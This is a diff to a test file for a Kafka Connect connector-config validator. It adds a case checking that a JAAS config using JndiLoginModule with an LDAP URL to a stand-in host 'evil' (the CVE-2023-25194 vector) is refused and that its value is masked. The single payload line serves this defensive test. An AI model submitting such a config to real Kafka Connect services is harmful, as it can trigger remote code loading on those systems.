@@ -129,6 +129,16 @@ describe('validateConnectorConfigInfos: bad configs, with the error counts Kafka
     expect(infos.error_count).toBe(1);
   });
 
+  it('a JAAS config with JndiLoginModule in a client override (1, refused as at start-up: CVE-2023-25194)', () => {
+    const jaas = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x";';
+    const infos = validate({ ...fileSink, 'consumer.override.sasl.jaas.config': jaas });
+    expect(Object.keys(errorsByKey(infos))).toEqual(['consumer.override.sasl.jaas.config']);
+    expect(errorsByKey(infos)['consumer.override.sasl.jaas.config'][0]).toContain('JndiLoginModule is not allowed');
+    expect(infos.error_count).toBe(1);
+    // The value is a PASSWORD: it is never echoed back.
+    expect(infos.configs.find((c) => c.value.name === 'consumer.override.sasl.jaas.config')?.value.value).toBe('[hidden]');
+  });
+
   it('a null value in the request body (1)', () => {
     const infos = validate({ ...fileSink, 'errors.log.enable': null });
     expect(errorsByKey(infos)).toEqual({ 'errors.log.enable': ['Null value can not be supplied as the configuration value.'] });
